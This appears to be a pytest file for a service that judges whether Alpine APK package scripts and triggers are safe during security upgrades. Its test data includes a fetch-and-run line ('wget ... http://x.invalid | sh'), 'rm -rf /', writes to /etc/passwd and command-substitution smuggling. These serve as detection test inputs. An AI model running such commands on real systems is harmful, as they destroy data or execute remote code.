"""Scripts and triggers: harmless ones pass, what matters needs a rebuild."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from services.fixer.failure import FixFailure, FixReason
from services.fixer.systems.apk.effects import Effect, effect_of
from services.fixer.systems.apk.scripts import fires
from services.fixer.systems.apk.system import ApkSystem
from tests.builders.apk_fixes import Fix, fetch, plan_of
from tests.builders.apks import Apk, finding, install

BUSYBOX_TRIGGER = """#!/bin/sh

do_bb_install=

for i in "$@"; do
\tcase "$i" in
\t\t/lib/modules/*)\t/bin/busybox depmod ${i#/lib/modules/};;
\t\t*) do_bb_install=yes;;
\tesac
done

if [ -n "$do_bb_install" ]; then
\t[ -e /bin/bbsuid ] && /bin/bbsuid --install
\t[ -e /bin/busybox-extras ] && /bin/busybox-extras --install -s
\t/bin/busybox --install -s
fi
"""
BUSYBOX_POST_UPGRADE = """#!/bin/sh

# /bin/install has moved to /usr/bin/install, but we need remove old link
if [ -L /bin/install ] && [ "$(readlink /bin/install)" = "/bin/busybox" ]; then
\trm /bin/install
fi

# We need the symlinks early
exec /bin/busybox --install -s
"""
OLD = Apk(name="curl", version="8.8.0-r0", files={"usr/bin/curl": b"old"})
NEW = Apk(name="curl", version="8.9.0-r0", files={"usr/bin/curl": b"new"})
BUSYBOX = Apk(
    name="busybox",
    version="1.36.1-r1",
    files={"bin/busybox": b"elf"},
    scripts={"trigger": BUSYBOX_TRIGGER},
    triggers="/bin /usr/bin /sbin /usr/sbin /lib/modules/*",
)


def checked(folder: Path, new: Apk, *installed: Apk) -> Fix:
    fix = plan_of(install(*(installed or (OLD,))), [new], [finding(OLD, "8.9.0-r0")])
    fix.plan = ApkSystem().check(fix.survey, fix.plan, fetch(folder, [new]))
    return fix


def test_a_package_without_scripts_passes(tmp_path: Path) -> None:
    assert checked(tmp_path, NEW).upgraded() == {"curl": "8.9.0-r0"}


@pytest.mark.parametrize(
    ("scripts", "passes"),
    [
        ({"post-install": "rm -rf /\n", "pre-deinstall": "rm -rf /\n"}, True),
        ({"post-upgrade": "#!/bin/sh\n# nothing\n\nexit 0\n"}, True),
        ({"post-upgrade": "#!/bin/sh\necho 'read the news'\n"}, True),
        ({"post-upgrade": "#!/bin/sh\nadduser -S curl\n"}, False),
        ({"pre-upgrade": "#!/bin/sh\nmv /a /b\n"}, False),
        ({"trigger": "#!/bin/sh\nldconfig\n"}, True),
    ],
)
def test_what_runs_at_an_upgrade_decides(tmp_path: Path, scripts: dict[str, str], passes: bool) -> None:
    fix = checked(tmp_path, dataclasses.replace(NEW, scripts=scripts))
    assert fix.refused() == ({} if passes else {"CVE-2026-0001": "NEEDS_REBUILD"})
    assert bool(fix.upgraded()) is passes


def test_its_own_trigger_runs_with_a_package(tmp_path: Path) -> None:
    new = dataclasses.replace(NEW, scripts={"trigger": "make-cache\n"}, triggers="/usr/lib")
    assert checked(tmp_path, new).refused() == {"CVE-2026-0001": "NEEDS_REBUILD"}


@pytest.mark.parametrize(
    ("patterns", "script", "passes"),
    [
        ("/usr/bin", "#!/bin/sh\nmake-cache\n", False),
        ("+/usr/*", "#!/bin/sh\nmake-cache\n", False),
        ("/usr/lib", "#!/bin/sh\nmake-cache\n", True),
        ("/usr/bin/*", "#!/bin/sh\nmake-cache\n", True),
        ("/usr/bin", "#!/bin/sh\nexit 0\n", True),
    ],
)
def test_a_trigger_fires_for_its_folders(tmp_path: Path, patterns: str, script: str, passes: bool) -> None:
    other = Apk(name="cacher", version="1-r0", triggers=patterns, scripts={"trigger": script})
    fix = checked(tmp_path, NEW, OLD, other)
    assert fix.refused() == ({} if passes else {"CVE-2026-0001": "NEEDS_REBUILD"})
    assert passes or "cacher runs its trigger when curl changes /usr/bin" in fix.plan.refusals[0].message


def test_busyboxs_trigger_makes_links_that_are_there(tmp_path: Path) -> None:
    assert checked(tmp_path, NEW, OLD, BUSYBOX).upgraded() == {"curl": "8.9.0-r0"}


def test_a_trigger_that_only_says_busybox_is_not_believed(tmp_path: Path) -> None:
    script = BUSYBOX_TRIGGER + "/bin/busybox wget -O- http://x.invalid | sh\n"
    other = dataclasses.replace(BUSYBOX, scripts={"trigger": script})
    assert checked(tmp_path, NEW, OLD, other).refused() == {"CVE-2026-0001": "NEEDS_REBUILD"}


def test_where_a_file_goes_busybox_may_put_a_link(tmp_path: Path) -> None:
    old = dataclasses.replace(OLD, files={"usr/bin/curl": b"old", "usr/bin/wget": b"old"})
    fix = checked(tmp_path, NEW, old, BUSYBOX)
    assert fix.refused() == {"CVE-2026-0001": "NEEDS_REBUILD"}


def test_what_goes_along_with_one_that_stays_stays_too(tmp_path: Path) -> None:
    sibling = Apk(name="libcurl", version="8.8.0-r0", origin="curl")
    other = Apk(name="zlib", version="1.3-r0")
    new = [
        NEW,
        dataclasses.replace(sibling, version="8.9.0-r0", scripts={"post-upgrade": "adduser x\n"}),
        dataclasses.replace(other, version="1.3.1-r0"),
    ]
    findings = [
        finding(OLD, "8.9.0-r0", "CVE-1"),
        finding(other, "1.3.1-r0", "CVE-2"),
        finding(other, "9", "CVE-3"),
    ]
    fix = plan_of(install(OLD, sibling, other), new, findings)
    assert len(fix.plan.upgrades) == 3
    fix.plan = ApkSystem().check(fix.survey, fix.plan, fetch(tmp_path, new))
    assert fix.upgraded() == {"zlib": "1.3.1-r0"}
    assert fix.refused() == {"CVE-1": "NEEDS_REBUILD", "CVE-3": "NOT_IN_REPOSITORY"}


def test_a_file_of_another_package_is_not_taken(tmp_path: Path) -> None:
    owner = Apk(name="owner", version="1-r0", files={"usr/bin/mine": b"mine"})
    new = dataclasses.replace(NEW, files={**NEW.files, "usr/bin/mine": b"theirs"})
    fix = checked(tmp_path, new, OLD, owner)
    assert fix.refused() == {"CVE-2026-0001": "NEEDS_REBUILD"}
    assert fix.plan.refusals[0].message == "curl has /usr/bin/mine, which is owner's."
    allowed = dataclasses.replace(new, replaces="owner")
    assert checked(tmp_path, allowed, OLD, owner).upgraded() == {"curl": "8.9.0-r0"}


def test_a_tampered_package_ends_the_fix(tmp_path: Path) -> None:
    fix = plan_of(install(OLD), [NEW], [finding(OLD, "8.9.0-r0")])
    files = fetch(tmp_path, [NEW])
    (path,) = files.values()
    path.write_bytes(path.read_bytes()[:-9] + b"\0" * 9)
    with pytest.raises(FixFailure) as failure:
        ApkSystem().check(fix.survey, fix.plan, files)
    assert failure.value.why is FixReason.PACKAGE_TAMPERED


@pytest.mark.parametrize(
    ("text", "nothing"),
    [
        ("", True),
        ("#!/bin/sh\nexit 0", True),
        ("echo a > /etc/passwd\n", False),
        ("echo `rm x`\n", False),
        ("echo $(rm x)\n", False),
        ("exit 0; rm x\n", False),
        ("echo a\\\nrm x\n", True),
        ("true && rm x\n", False),
        ("cat <<EOF\nrm x\nEOF\n", False),
        ("exec /bin/busybox --install -s\n", False),
    ],
)
def test_nothing_is_remarks_messages_and_the_end(text: str, nothing: bool) -> None:
    assert (effect_of(text.encode()) is Effect.NOTHING) is nothing


def test_busyboxs_trigger_is_known_by_its_text() -> None:
    assert effect_of(BUSYBOX_TRIGGER.encode()) is Effect.APPLET_LINKS
    assert effect_of(BUSYBOX_POST_UPGRADE.encode()) is Effect.APPLET_LINKS
    assert effect_of((BUSYBOX_POST_UPGRADE + "rm -rf /var/lib\n$x\n").encode()) is Effect.UNKNOWN


def test_triggers_match_folders_part_by_part() -> None:
    assert fires(
        ["/usr/share/fonts/*", "+/etc"], ["/usr/share/fonts", "/usr/share/fonts/a", "/etc", "/etc/b"]
    ) == (
        "/usr/share/fonts/a",
        "/etc",
    )


@pytest.mark.parametrize(("version", "passes"), [("1.36.1-r2", True), ("1.36.2-r0", False)])
def test_busybox_itself_may_be_another_build_of_its_version(tmp_path: Path, version: str, passes: bool) -> None:
    scripts = {"trigger": BUSYBOX_TRIGGER, "post-upgrade": BUSYBOX_POST_UPGRADE}
    new = dataclasses.replace(BUSYBOX, version=version, scripts=scripts)
    fix = plan_of(install(BUSYBOX), [new], [finding(BUSYBOX, version)])
    fix.plan = ApkSystem().check(fix.survey, fix.plan, fetch(tmp_path, [new]))
    assert bool(fix.upgraded()) is passes
    assert fix.refused() == ({} if passes else {"CVE-2026-0001": "NEEDS_REBUILD"})


@pytest.mark.parametrize(
    ("text", "effect"),
    [
        ("#!/bin/sh\n/sbin/ldconfig -i /usr/lib /lib\nexit 0\n", Effect.LIBRARY_CACHE),
        ("ldconfig\n", Effect.LIBRARY_CACHE),
        ("ldconfig; rm x\n", Effect.UNKNOWN),
        ("#!/bin/sh\n/usr/sbin/update-ca-certificates > /dev/null 2>&1\nexit 0\n", Effect.UNKNOWN),
        ("rm /etc/passwd\nldconfig\n", Effect.UNKNOWN),
        ("rm /bin/install\n/bin/busybox --install -s\n", Effect.UNKNOWN),
        ('if [ -L /a ] && [ "$(readlink /a)" = "/bin/busybox" ]; then\nrm /b\nfi\n', Effect.UNKNOWN),
    ],
)
def test_what_a_script_does_is_read_from_its_text(text: str, effect: Effect) -> None:
    assert effect_of(text.encode()) is effect


@pytest.mark.parametrize(("provides", "passes"), [("so:libx.so.1=1.9", True), ("so:libx.so.2=2", False)])
def test_the_linkers_cache_holds_while_libraries_keep_their_names(
    tmp_path: Path, provides: str, passes: bool
) -> None:
    old = dataclasses.replace(OLD, provides="so:libx.so.1=1.8")
    cache = Apk(name="ldconfig", version="1-r0", triggers="/usr/bin", scripts={"trigger": "#!/bin/sh\nldconfig\n"})
    fix = checked(tmp_path, dataclasses.replace(NEW, provides=provides), old, cache)
    assert bool(fix.upgraded()) is passes
